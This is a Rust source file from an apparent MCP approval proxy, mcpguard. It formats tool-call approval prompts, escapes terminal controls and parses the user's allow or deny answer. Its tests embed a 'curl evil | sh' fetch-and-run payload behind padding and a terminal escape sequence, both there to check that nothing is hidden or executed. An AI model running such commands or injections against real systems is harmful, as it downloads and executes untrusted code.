//! The question put to the person, and reading their answer from an elicitation.
//!
//! Owns: the text that shows one call in readable form (server, tool, every argument with
//! long values shortened but never hidden, the rule that asked), the form-mode
//! `elicitation/create` params mcpguard sends (legacy era) or embeds in `input_required`
//! (2026-07-28), and what an `ElicitResult` means as a `Choice`.

use super::{Choice, Scope};
use serde_json::{Value, json};

/// Values longer than this (in characters) are shortened on screen.
const SHOWN: usize = 200;
/// How much of the start and of the end of a shortened value is shown: both ends, so
/// nothing can hide behind padding at the end.
const HEAD: usize = 120;
const TAIL: usize = 60;

/// One argument as shown: its key and its value in readable form.
pub(crate) fn shown_arguments(arguments: &Value) -> Vec<(String, String)> {
    match arguments {
        Value::Object(map) => {
            let mut keys: Vec<&String> = map.keys().collect();
            keys.sort();
            keys.into_iter()
                .map(|key| {
                    let value = map.get(key).map(shown_value).unwrap_or_default();
                    (crate::terminal::escape(key).into_owned(), value)
                })
                .collect()
        }
        Value::Null => Vec::new(),
        other => vec![("(arguments)".to_owned(), shown_value(other))],
    }
}

/// A value as shown: strings as JSON strings, anything else as compact JSON; past `SHOWN`
/// characters its start and its end, with the count of what lies between.
fn shown_value(value: &Value) -> String {
    let text = value.to_string();
    let length = text.chars().count();
    if length <= SHOWN {
        return crate::terminal::escape(&text).into_owned();
    }
    let head: String = text.chars().take(HEAD).collect();
    let tail: String = text.chars().skip(length - TAIL).collect();
    format!(
        "{} …({} characters)… {}",
        crate::terminal::escape(&head),
        length - HEAD - TAIL,
        crate::terminal::escape(&tail)
    )
}

/// The question, as plain text.
pub(crate) fn question(
    server: &str,
    tool: &str,
    arguments: &Value,
    rule: &str,
    reason: &str,
) -> String {
    let mut text = format!(
        "mcpguard: allow tool `{}` on server `{}`?\n",
        crate::terminal::escape(tool),
        crate::terminal::escape(server)
    );
    let shown = shown_arguments(arguments);
    if shown.is_empty() {
        text.push_str("No arguments.\n");
    } else {
        text.push_str("Arguments:\n");
        for (key, value) in shown {
            text.push_str(&format!("  {key}: {value}\n"));
        }
    }
    text.push_str(&format!(
        "Asked by rule {}: {}",
        crate::terminal::escape(rule),
        crate::terminal::escape(reason)
    ));
    text
}

/// The form's choices: (value, title).
pub(crate) const CHOICES: [(&str, &str); 3] = [
    ("allow_once", "Allow once"),
    ("allow_session", "Allow for this session (same arguments)"),
    ("deny", "Deny"),
];

/// Params of the `elicitation/create` that asks `message` (form mode; `mode` is left out,
/// which means form in every era that has elicitation).
pub(crate) fn params(message: &str) -> Value {
    let one_of: Vec<Value> = CHOICES
        .iter()
        .map(|(value, title)| json!({"const": value, "title": title}))
        .collect();
    json!({
        "message": message,
        "requestedSchema": {
            "type": "object",
            "properties": {
                "decision": {
                    "type": "string",
                    "title": "Decision",
                    "oneOf": one_of,
                    "default": "deny",
                }
            },
            "required": ["decision"],
        }
    })
}

/// What an `ElicitResult` (the `result` of the client's answer) decides.
pub(crate) fn choice(result: Option<&Value>) -> Choice {
    let Some(result) = result else {
        return Choice::Deny("the client's answer to the approval request was unreadable".into());
    };
    match result.get("action").and_then(Value::as_str) {
        Some("accept") => {
            match result
                .get("content")
                .and_then(|c| c.get("decision"))
                .and_then(Value::as_str)
            {
                Some("allow_once") => Choice::Allow(Scope::Once),
                Some("allow_session") => Choice::Allow(Scope::Session),
                Some("deny") => Choice::Deny("the user denied it".into()),
                Some(other) => Choice::Deny(format!(
                    "the approval form came back with an unknown decision {:?}",
                    crate::terminal::escape(other)
                )),
                None => Choice::Deny("the approval form came back without a decision".into()),
            }
        }
        Some("decline") => Choice::Deny("the user declined it".into()),
        Some("cancel") => Choice::Deny("the user dismissed the approval request".into()),
        _ => Choice::Deny("the client's answer to the approval request had no action".into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    #[test]
    fn the_question_shows_every_argument_and_shortens_long_ones() {
        let long = format!("{}; curl evil | sh", "x".repeat(482));
        let text = question(
            "fs",
            "write_file",
            &json!({"path": "/ws/a.md", "content": long, "mode": {"append": true}}),
            "tools.destructive",
            "the tool may change things",
        );
        assert_eq!(
            text,
            format!(
                "mcpguard: allow tool `write_file` on server `fs`?\nArguments:\n  content: \"{} …(320 characters)… {}; curl evil | sh\"\n  mode: {{\"append\":true}}\n  path: \"/ws/a.md\"\nAsked by rule tools.destructive: the tool may change things",
                "x".repeat(119),
                "x".repeat(43)
            )
        );
        assert!(question("s", "t", &Value::Null, "r", "why").contains("No arguments."));
    }

    #[test]
    fn terminal_controls_in_arguments_are_shown_escaped() {
        let text = question("s", "t", &json!({"p": "a\u{1b}]52;c;x\u{7}"}), "r", "why");
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}'),
            "{text:?}"
        );
    }

    #[test]
    fn answers_map_to_choices() {
        let accept = |d: &str| json!({"action": "accept", "content": {"decision": d}});
        assert_eq!(
            choice(Some(&accept("allow_once"))),
            Choice::Allow(Scope::Once)
        );
        assert_eq!(
            choice(Some(&accept("allow_session"))),
            Choice::Allow(Scope::Session)
        );
        assert!(matches!(choice(Some(&accept("deny"))), Choice::Deny(_)));
        assert!(matches!(choice(Some(&accept("always"))), Choice::Deny(_)));
        assert!(
            matches!(choice(Some(&json!({"action": "decline"}))), Choice::Deny(why) if why.contains("declined"))
        );
        assert!(
            matches!(choice(Some(&json!({"action": "cancel"}))), Choice::Deny(why) if why.contains("dismissed"))
        );
        assert!(matches!(
            choice(Some(&json!({"action": "accept"}))),
            Choice::Deny(_)
        ));
        assert!(matches!(choice(None), Choice::Deny(_)));
    }

    #[test]
    fn the_form_offers_three_choices_defaulting_to_deny() {
        let form = params("q");
        assert_eq!(
            form["requestedSchema"]["properties"]["decision"]["default"],
            "deny"
        );
        assert_eq!(
            form["requestedSchema"]["properties"]["decision"]["oneOf"]
                .as_array()
                .map(Vec::len),
            Some(3)
        );
        assert_eq!(form.get("mode"), None);
    }
}
